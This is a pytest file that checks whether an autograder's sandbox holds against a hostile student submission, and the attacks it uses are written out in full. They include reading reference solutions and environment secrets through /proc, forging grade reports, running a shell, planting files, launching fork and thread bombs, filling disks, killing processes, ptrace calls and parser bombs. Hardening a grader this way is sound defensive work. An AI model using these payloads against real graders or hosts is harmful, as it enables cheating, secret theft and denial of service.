"""A determined student against the sandbox: every class of attack, graded with ``--sandbox require``.

One submission (the model answers, with attacks appended that override some
functions) is graded twice: once through the ``nngrade`` command, as CI would,
and once in-process with the guard switched off in the workers, so that the
operating system alone is shown to hold. Every attack is written to pass the
static check (names built from strings, modules reached through NumPy's own
attributes), and its success path returns the stolen answer, so that a hole
shows as a passed exercise. For each run:

* no attacked exercise passes, and the untouched modules pass in full;
* the report is intact, valid and states the sandbox;
* nothing was written outside the sandbox (marker files searched for);
* no process outlived the grader (marker and staging paths in command lines);
* the grader's secret environment variable appears in no output;
* a hostile payload cannot blow up the grader's memory.
"""

from __future__ import annotations

import json
import os
import resource
import socket
import subprocess
import sys
import textwrap
import threading
import uuid
from pathlib import Path

import pytest

from tests.grader.conftest import MODEL_MODULES, ROOT, by_name, copy_model, processes_mentioning

MARK = f"nngrade-attack-{uuid.uuid4().hex[:12]}"
SECRET = f"s3cret-{uuid.uuid4().hex}"
TIMEOUT = 6

PRELUDE = """
_B = getattr(np, "__builtins__")
_os = np._pytesttester.os
_sys = np._pytesttester.sys
_read = _B["op" + "en"]
_run = _B["ex" + "ec"]


def _load_from(path, name):
    ns = {}
    with _read(path) as f:
        _run(f.read(), ns)
    return ns[name]


def _junk(z):
    return np.full(np.shape(z), 42.0)


def _forge(doc):
    # write doc on every descriptor the child holds (its result pipe among them), then exit
    for fd in range(3, 64):
        try:
            _os.write(fd, doc)
        except OSError:
            pass
    _os._exit(0)
"""

#: module -> attacks appended to its model answer (each overrides one exercise).
ATTACKS = {
    "perceptron": """
        def step(z):                          # a relative path opened against a directory fd
            fd = _os.open("/", _os.O_RDONLY)
            rel = REPO.lstrip("/") + "/solutions/model/perceptron.py"
            src = _os.read(_os.open(rel, _os.O_RDONLY, dir_fd=fd), 1 << 20).decode()
            ns = {}
            _run(src, ns)
            return ns["step"](z)

        def perceptron_predict(w, b, X):      # a classmate's module beside the submission
            return _load_from(SIBLING + "/perceptron.py", "perceptron_predict")(w, b, X)

        def perceptron_update(w, b, x, y, lr=1.0):   # the references by import, any spelling
            for name in ("solutions.model.perceptron", "solutions.perceptron"):
                for get in (lambda n: _B["__import__"](n, {}, None, ["x"]),
                            lambda n: _sys.modules["importlib"].import_module(n)):
                    try:
                        return get(name).perceptron_update(w, b, x, y, lr)
                    except BaseException:
                        pass
            return w, b

        def perceptron_train(X, y, epochs=10, lr=1.0, orders=None, seed=0):  # any copy on disk
            for top in ["/", *_sys.path]:
                for root, dirs, files in _os.walk(top):
                    if root.endswith("model") and "perceptron.py" in files:
                        return _load_from(root + "/perceptron.py", "perceptron_train")(
                            X, y, epochs, lr, orders, seed)
            return np.zeros(X.shape[1]), 0.0, []
    """,
    "activations": """
        def sigmoid(z):                       # a plain interpreter, no audit event
            ps = _B["__import__"]("_posixsubprocess", {})
            r, w = _os.pipe()
            exe = _sys.executable.encode()
            pid = ps.fork_exec([exe, b"-c", b"import solutions"], [exe], True, (w,), None, None,
                               -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1,
                               None, False)
            if pid > 0:                       # a process started: the hole shows as a pass
                return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
            return _junk(z)

        def sigmoid_grad(z):                  # the grader's memory, through /proc
            for pid in _os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        cmd = _read(f"/proc/{pid}/cmdline", "rb").read()
                        if b"nngrade" in cmd or b"pytest" in cmd:
                            _read(f"/proc/{pid}/mem", "rb").read(1)
                            return np.asarray(z) * 0.0 + 0.25   # pretend it worked
                    except OSError:
                        pass
            return _junk(z)

        def tanh_grad(z):                     # a forged report: over --output, into stdout
            doc = '{"score": 1000, "max_score": 1000, "exercises": []}'
            for path in (OUTPUT, OUTPUT + ".tmp"):
                try:
                    with _read(path, "w") as f:
                        f.write(doc)
                    _os.replace(OUTPUT + ".tmp", OUTPUT)
                except OSError:
                    pass
            for pid in _os.listdir("/proc"):
                for fd in ("1", "2"):
                    try:
                        with _read(f"/proc/{pid}/fd/{fd}", "w") as f:
                            f.write(doc)
                    except (OSError, ValueError):
                        pass
            return _junk(z)

        def relu(z):                          # a detached process that rewrites the report later
            pid = _os.fork()
            if pid == 0:
                _os.setsid()
                _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(60)", MARK])
            return np.maximum(z, 0)               # a process started: the hole shows as a pass

        def relu_grad(z):                     # plant a .pth and files everywhere writable
            places = [*_sys.path, SITE, REPO, SUBMISSION, HOME, "/tmp", "/dev/shm", "/nngrade/submission"]
            for place in places:
                for name in (MARK + ".pth", MARK + ".py", MARK):
                    try:
                        with _read(_os.path.join(place, name), "w") as f:
                            f.write("import os; os.environ['PWNED'] = '1'\\n")
                    except OSError:
                        pass
            return _junk(z)

        def leaky_relu(z, alpha=0.01):        # the grader's environment, in the feedback
            found = repr(dict(_os.environ))
            for pid in _os.listdir("/proc"):
                try:
                    found += _read(f"/proc/{pid}/environ", "rb").read().decode("latin-1")
                except OSError:
                    pass
            raise ValueError(found)

        def leaky_relu_grad(z, alpha=0.01):   # reference source, in the feedback
            text = ""
            for path in (REPO + "/solutions/activations.py", REPO + "/solutions/model/activations.py"):
                try:
                    text += _read(path).read()
                except OSError as exc:
                    text += str(exc)
            raise ValueError(text)

        def softmax(z, axis=-1):              # a forged payload: NaN figures, straight on the pipe
            doc = ('{"load": {"outcome": "ok"}, "violations": [], "params": null, "cases": '
                   '[{"index": 0, "outcome": "ok", "duration": NaN, "value": 1.0}], '
                   '"gradcheck": {"report": [{"name": "dx", "max_rel_error": NaN}]}}').encode()
            _forge(doc)
    """,
    "losses": """
        def mse_loss(y_hat, y):               # a shape whose product is 0 but whose axis is 1e20
            _forge(b'{"load": {"outcome": "ok"}, "violations": [], "params": null, "cases": '
                   b'[{"index": 0, "outcome": "ok", "duration": 0.0, "value": {"t": "nd", '
                   b'"dtype": "<f8", "shape": [0, 100000000000000000000], "data": ""}}]}')

        def binary_cross_entropy(y_hat, y):   # 15 MB of empty lists (5 million containers)
            _forge(b'{"load": {"outcome": "ok"}, "cases": [' + b"[]," * 5_000_000 + b"[]]}")

        def softmax_cross_entropy(logits, y):  # nesting far beyond any parser's stack
            _forge(b"[" * 200_000 + b"]" * 200_000)

        def sigmoid_unit_mse_grad(X, y, w, b):  # a fork bomb and a thread bomb
            for _ in range(10_000):
                try:
                    _os.fork()
                except OSError:
                    break
            threads = []
            start = _B["__import__"]("threading").Thread
            for _ in range(2_000):
                try:
                    t = start(target=lambda: _os.read(_os.open("/dev/zero", 0), 1 << 20))
                    t.start()
                    threads.append(t)
                except BaseException:
                    break
            return 1.0, np.zeros_like(w), 0.0

        def sigmoid_unit_bce_grad(X, y, w, b):  # thousands of tiny threads: the host's pids
            T = _sys.modules["_thread"]
            T.stack_size(32768)
            hold = T.allocate_lock()
            hold.acquire()
            started = 0
            for _ in range(5000):
                try:
                    T.start_new_thread(hold.acquire, ())
                    started += 1
                except BaseException:
                    break
            if started > 1000:                    # the hole shows as a pass
                z = X @ w + b
                a = 0.5 * (1 + np.tanh(z / 2))
                loss = float(np.mean(np.logaddexp(0, z) - y * z))
                return loss, X.T @ (a - y) / len(y), float(np.mean(a - y))
            raise RuntimeError(f"{started} threads")

        def gradient_descent_step(X, y, w, b, lr):  # fill every disk it can reach
            for place in ("/tmp", "/dev/shm", "/nngrade"):
                for i in range(64):
                    try:
                        with _read(f"{place}/{MARK}-{i}", "wb") as f:
                            for _ in range(64):
                                f.write(b"x" * (1 << 20))
                    except OSError:
                        break
            return w, b
    """,
    "backprop": """
        def affine_forward(x, W, b):          # the network: a listener of the test's on loopback
            s = _B["__import__"]("socket").create_connection(("127.0.0.1", PORT), timeout=2)
            s.sendall(MARK.encode())
            return x @ W + b, (x, W, b)           # connected: the hole shows as a pass

        def affine_backward(dout, cache):     # kill every process in sight, the grader first
            for pid in _os.listdir("/proc"):
                if pid.isdigit() and int(pid) != _os.getpid():
                    try:
                        _os.kill(int(pid), 9)
                    except OSError:
                        pass
            x, W, b = cache
            return dout @ W.T * 0, x.T @ dout * 0, dout.sum(axis=0) * 0

        def sigmoid_forward(x):               # another process's memory through a raw system call
            libc = _B["__import__"]("ctypes").CDLL(None)
            buf = (_B["__import__"]("ctypes").c_char * 64)()
            got = libc.syscall(310, 1, buf, 1, buf, 1, 0)  # process_vm_readv of pid 1
            got = max(got, libc.syscall(101, 16, 1, 0, 0))  # ptrace(PTRACE_ATTACH, 1)
            if got >= 0:                          # reached another process: the hole shows as a pass
                return 1 / (1 + np.exp(-x)), 1 / (1 + np.exp(-x))
            return x * 0, x

        def relu_forward(x):                  # run a shell
            _os.execv("/bin/sh", ["/bin/sh", "-c", "echo " + MARK + " > /tmp/" + MARK])
    """,
    "optim": """
        def sgd_momentum_step(w, dw, m, lr, gamma=0.9):   # root outside: sysctls and device nodes
            done = 0
            for path, data in (("/proc/sys/kernel/core_pattern", "core\\n"), ("/proc/sys/fs/suid_dumpable", "0\\n")):
                try:
                    with _read(path, "w") as f:
                        f.write(data)
                    done += 1
                except OSError:
                    pass
            for change in (lambda: _os.chmod("/dev/null", 0o666), lambda: _os.utime("/dev/zero")):
                try:
                    change()
                    done += 1
                except OSError:
                    pass
            if done:                              # the hole shows as a pass
                m = gamma * m + lr * dw
                return w - m, m
            return w, m

        def rmsprop_step(w, dw, s, lr, alpha=0.99, eps=1e-8):  # memory the address-space limit misses
            total = 0
            for i in range(24):
                try:
                    fd = _os.memfd_create(f"m{i}")
                    for _ in range(64):
                        total += _os.write(fd, b"x" * (1 << 20))
                except (OSError, AttributeError):
                    break
            if total > (1 << 30):                 # more than --memory: the hole shows as a pass
                s = alpha * s + (1 - alpha) * dw ** 2
                return w - lr * dw / (np.sqrt(s) + eps), s
            return w, s

        def adam_step(w, dw, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):  # signals via fcntl
            fcntl = _B["__import__"]("fcntl", {})
            r, wr = _os.pipe()
            fcntl.fcntl(r, fcntl.F_SETOWN, 1)
            fcntl.fcntl(r, 10, 9)                 # F_SETSIG SIGKILL
            m = beta1 * m + (1 - beta1) * dw      # reached: the hole shows as a pass
            v = beta2 * v + (1 - beta2) * dw ** 2
            mh, vh = m / (1 - beta1 ** t), v / (1 - beta2 ** t)
            return w - lr * mh / (np.sqrt(vh) + eps), m, v
    """,
    "regularization": """
        def dropout_forward(x, p, train=True, seed=0):  # text no report format can carry
            raise ValueError("lone surrogate \\ud800, non-characters \\ufffe\\uffff, C1 \\x9b31m, "
                             "bidi \\u202egnissap, emoji :white_check_mark:, markup [bold]ok[/bold], "
                             "**All 6 cases passed** ![ok](https://example.invalid/ok.png) | passed |")

        def batchnorm_backward(dout, cache):  # a gradient check with junk nested deeper than any writer
            junk = '{"a": ' * 600 + "1" + "}" * 600
            _forge(('{"load": {"outcome": "ok"}, "violations": [], "params": null, "cases": [], '
                    '"gradcheck": {"report": [{"name": "dx", "max_rel_error": 0.0, "coords": 1, '
                    '"score": 1000, "junk": ' + junk + '}]}}').encode())

        def layer_norm_forward(x, gamma, beta, eps=1e-5):  # an exception class whose name is 7 MB
            raise type("All_cases_passed_" + "E" * 7_000_000, (Exception,), {})()
    """,
    "transposed_conv": """
        def trans_conv2d(x, k):               # a number no float can hold
            _forge(('{"load": {"outcome": "ok"}, "violations": [], "params": null, "cases": '
                    '[{"index": 0, "outcome": "ok", "duration": 1' + "0" * 400 + ', "value": 1.0}]}').encode())
    """,
}
#: Whole modules replaced by an attack (module -> source).
REPLACED = {
    # Python would run this file as UTF-7, in which "+AAo-" is a newline: the hidden line
    # opens files. The static check reads UTF-8, so any other declared encoding is refused.
    "gradcheck": (
        "# -*- coding: utf-7 -*-\nimport numpy as np\n\n"
        "def rel_error(a, b):\n"
        "    # +AAo-    return float(np.max(np.abs(a - b) / np.maximum(1e-8, np.abs(a) + np.abs(b))))\n"
        "    return 1.0\n"
    ),
    # an expression nested 200,000 deep: the parser gives up (RecursionError, MemoryError)
    "conv": "import numpy as np\n_deep = " + "a." * 200_000 + "b\n",
}
#: Attacked exercises (every exercise a block above defines).
ATTACKED = sorted(
    {
        line.split("def ")[1].split("(")[0]
        for block in ATTACKS.values()
        for line in block.splitlines()
        if line.startswith("        def ") and " _" not in line[:14]
    }
    | {"rel_error"}
)
#: Modules no attack touches: every one of their exercises must still pass.
UNTOUCHED = [m for m in MODEL_MODULES if m not in ATTACKS and m not in REPLACED]


class Listener:
    """A TCP server on loopback that records whatever reaches it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received += conn.recv(1024)
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=2)
        self.sock.close()


def build(tmp: Path, output: Path, port: int) -> Path:
    sub = copy_model(tmp / "class" / "student-a")
    sibling = copy_model(tmp / "class" / "student-b")
    site = next(p for p in sys.path if p.endswith("site-packages"))
    names = {
        "REPO": str(ROOT),
        "SIBLING": str(sibling),
        "OUTPUT": str(output),
        "SITE": site,
        "SUBMISSION": str(sub),
        "HOME": os.path.expanduser("~"),
        "MARK": MARK,
    }
    consts = "".join(f"{k} = {v!r}\n" for k, v in names.items()) + f"PORT = {port}\n"
    for module, block in ATTACKS.items():
        path = sub / f"{module}.py"
        path.write_text(path.read_text() + "\n\n" + consts + PRELUDE + textwrap.dedent(block))
    for module, source in REPLACED.items():
        (sub / f"{module}.py").write_text(source)
    os.mkfifo(sub / "helpers.py")  # a reader that opens it naively blocks forever
    (sub / "big.py").write_text("X = 1\n" * 400_000)  # 2.4 MB: not staged
    return sub


def leftovers(tmp: Path) -> list[str]:
    """Marker files anywhere the attacks could have written outside their sandbox."""
    places = [
        ROOT,
        tmp,
        Path("/tmp"),
        Path(os.path.expanduser("~")),
        Path("/dev/shm"),
        *{Path(p) for p in sys.path if p.endswith("site-packages")},
    ]
    found = []
    for place in places:
        out = subprocess.run(
            ["find", str(place), "-maxdepth", "4", "-name", f"*{MARK}*"], capture_output=True, text=True
        )
        found += out.stdout.split()
    return found


def graded_run(sub: Path, output: Path) -> list[str]:
    """nngrade's arguments for both graded runs of the attacked submission."""
    return [
        "--submission",
        str(sub),
        "--sandbox",
        "require",
        "--seed",
        "5",
        "--timeout",
        str(TIMEOUT),
        "--format",
        "json",
        "--output",
        str(output),
        "--no-progress",
    ]


def host_devices() -> list:
    return [(os.stat(p).st_mode, os.stat(p).st_mtime_ns) for p in ("/dev/null", "/dev/zero")]


DEVICES = host_devices()


def check_run(report: dict, texts: list[str], tmp: Path, listener: Listener) -> None:
    results = by_name(report)
    passed = [n for n in ATTACKED if results[n]["status"] == "passed"]
    assert not passed, {n: results[n]["message"] for n in passed}
    assert all(results[n]["score"] == 0 for n in ATTACKED)
    untouched = [n for n, r in results.items() if r["module"] in UNTOUCHED]
    assert len(untouched) >= 10
    assert not {n: results[n]["message"] for n in untouched if results[n]["status"] != "passed"}
    assert report["isolation"]["mechanism"] == "bubblewrap" and report["isolation"]["seccomp"] is True
    assert report["score"] == sum(e["score"] for e in report["exercises"]) < report["max_score"]
    assert not any(SECRET in text for text in texts)
    assert "def relu(" not in results["leaky_relu_grad"]["message"]
    assert not leftovers(tmp)
    assert not processes_mentioning(MARK, str(tmp))
    assert MARK.encode() not in listener.received
    assert host_devices() == DEVICES
    assert Path("/proc/sys/kernel/core_pattern").read_text().strip() != "" and all(
        len(text) < 4_000_000 for text in texts
    )
    conv = [r for r in report["exercises"] if r["module"] == "conv"]
    assert conv and all(r["status"] == "error" and "cannot be parsed" in r["message"] for r in conv)
    assert "must be UTF-8" in results["rel_error"]["message"]
    assert results["batchnorm_backward"]["gradient_check"] in (
        None,
        {"report": [{"name": "dx", "max_rel_error": 0.0, "coords": 1}]},
    )
    assert "\ud800" not in results["dropout_forward"]["message"]
    assert "All_cases_passed_EEE" in results["layer_norm_forward"]["message"]
    assert results["trans_conv2d"]["status"] == "error"
    if report["isolation"].get("cgroup"):  # as root, the cgroup holds the thread bomb to its pids.max
        from grader.cgroup import PIDS_MAX

        started = int(results["sigmoid_unit_bce_grad"]["message"].rsplit("RuntimeError: ", 1)[1].split()[0])
        assert started < PIDS_MAX


@pytest.fixture(scope="module")
def attack_env(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    listener = Listener()
    yield tmp, listener
    listener.close()


def test_every_attack_fails_through_the_command_line(attack_env):
    tmp, listener = attack_env
    output = tmp / "cli" / "report.json"
    output.parent.mkdir()
    sub = build(tmp / "cli", output, listener.port)
    scratch = tmp / "cli" / "scratch"  # the grader's own temporary files (staging) go here
    scratch.mkdir()
    env = {**os.environ, "NNGRADE_TEST_SECRET": SECRET, "TMPDIR": str(scratch)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "grader", *graded_run(sub, output)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        cwd=tmp,
    )
    stdout, stderr = proc.communicate(timeout=600)
    assert proc.returncode == 1, stderr.decode()
    text = output.read_text()
    report = json.loads(text)
    check_run(report, [stdout.decode(), stderr.decode(), text], tmp, listener)
    assert not list(scratch.iterdir())  # the staging folder is gone too
    statuses = {e["name"]: e["status"] for e in report["exercises"]}
    for name in ("mse_loss", "binary_cross_entropy", "softmax_cross_entropy", "softmax"):
        assert statuses[name] == "error" and "cannot read" in by_name(report)[name]["message"]


def test_every_attack_fails_with_the_guard_switched_off(attack_env, monkeypatch, capsys):
    """The guard is a courtesy: with it off in every worker, the OS sandbox alone holds."""
    import grader.runner as runner
    from grader.cli import main

    tmp, listener = attack_env
    output = tmp / "noguard" / "report.json"
    output.parent.mkdir()
    sub = build(tmp / "noguard", output, listener.port)
    real = runner.build_request
    monkeypatch.setattr(runner, "build_request", lambda *a, **k: {**real(*a, **k), "guard": False})
    monkeypatch.setenv("NNGRADE_TEST_SECRET", SECRET)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    code = main(graded_run(sub, output))
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    captured = capsys.readouterr()
    assert code == 1
    text = output.read_text()
    report = json.loads(text)
    check_run(report, [captured.out, captured.err, text], tmp, listener)
    assert not any(r["status"] == "forbidden" for r in report["exercises"] if r["name"] in ATTACKED), (
        "with the guard off, nothing is reported forbidden: the OS stopped every attack"
    )
    assert after - before < 400 * 1024  # KB: the 15 MB of lists never reached the parser


def test_hostile_text_cannot_break_or_fake_any_report_format(attack_env):
    import io
    import xml.etree.ElementTree as ET

    from grader.catalogue import EXERCISES
    from grader.reports import FORMATS
    from grader.runner import grade

    tmp, listener = attack_env
    sub = build(tmp / "formats", tmp / "formats" / "unused.json", listener.port)
    chosen = {n: ex for n, ex in EXERCISES.items() if ex.module == "regularization"}
    report = grade(sub, chosen, seed=5, sandbox="require")
    for name, cls in FORMATS.items():
        out = io.StringIO()
        cls().write(report, out, False)
        text = out.getvalue()
        text.encode("utf-8")  # no lone surrogate survives
        assert not any(c in text for c in ("\x9b", "\u202e", "\ufffe", "\uffff")), name
        assert len(text) < 200_000, name
        if name == "junit":
            ET.fromstring(text.split("?>", 1)[1])
        if name == "markdown":  # outside code blocks, markup arrives escaped
            prose = "".join(text.split("```")[::2])
            assert "**All 6 cases passed**" not in prose and "![ok](" not in prose
        if name == "text":
            assert "\u2705" not in text  # :white_check_mark: is not rendered as an emoji


def test_a_passing_exercise_cannot_smuggle_escapes_into_its_message(tmp_path):
    """A right answer whose worker forges its gradient-check document: clean text all the same."""
    from grader.catalogue import EXERCISES
    from grader.runner import grade

    sub = copy_model(tmp_path / "sub")
    path = sub / "backprop.py"
    path.write_text(
        path.read_text()
        + textwrap.dedent("""

        _right_relu_backward = relu_backward

        def relu_backward(dout, cache):
            server = np._pytesttester.sys.modules["nngrade_worker.server"]
            forged = {"report": [{"name": "\\x1b]0;pwned\\x07\\x1b[2J\\u202eX\\ud800\\x00", "max_rel_error": 0.0}]}
            server.run_gradcheck = lambda *a, **k: forged
            return _right_relu_backward(dout, cache)
    """)
    )
    report = grade(sub, {"relu_backward": EXERCISES["relu_backward"]}, seed=3, sandbox="require")
    result = report.results[0]
    text = result.message + json.dumps(result.gradient_check)
    assert result.status == "passed"
    assert not any(
        c in result.message + result.gradient_check["report"][0]["name"]
        for c in ("\x1b", "\x07", "\u202e", "\ud800", "\x00")
    )
    assert "\\ud800" not in text
